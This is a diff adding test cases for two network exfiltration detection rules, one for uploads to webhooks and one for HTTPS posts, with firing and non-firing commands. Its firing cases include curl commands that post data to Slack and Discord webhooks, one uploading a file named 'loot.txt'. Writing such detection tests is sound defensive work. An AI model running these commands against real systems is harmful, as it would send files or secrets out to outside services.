@@ -223,3 +223,40 @@ describeRules([
     ],
   },
 ]);
+
+describeRules([
+  {
+    id: 'network.exfil-webhook',
+    attack: ['T1567.004'],
+    positive: [
+      [
+        'posts a file to a Slack webhook',
+        (s) =>
+          s.run(['curl', '-s', '-X', 'POST', '--data', '{"text":"x"}', 'https://hooks.slack.com/services/T0/B0/x']),
+      ],
+      [
+        'posts to a Discord webhook with -F',
+        (s) => s.run(['curl', '-F', 'file=@loot.txt', 'https://discord.com/api/webhooks/1/abc']),
+      ],
+    ],
+    benign: [
+      ['reads a Slack API page', (s) => s.run(['curl', '-s', 'https://hooks.slack.com/'])],
+      ['posts to an ordinary API', (s) => s.run(['curl', '-d', '{}', 'https://api.example.test/v1/items'])],
+    ],
+  },
+  {
+    id: 'network.post-https',
+    attack: ['T1048.002'],
+    positive: [
+      ['posts inline data with wget', (s) => s.run(['wget', '--post-data=msg=x', 'https://example.test/'])],
+      ['posts inline data with curl -d', (s) => s.run(['curl', '-d', 'a=1', 'https://example.test/'])],
+    ],
+    benign: [
+      ['gets a page', (s) => s.run(['curl', '-fsS', 'https://example.test/'])],
+      [
+        'posts over plain HTTP (seen in full by the fake network)',
+        (s) => s.run(['curl', '-d', 'a=1', 'http://example.test/']),
+      ],
+    ],
+  },
+]);
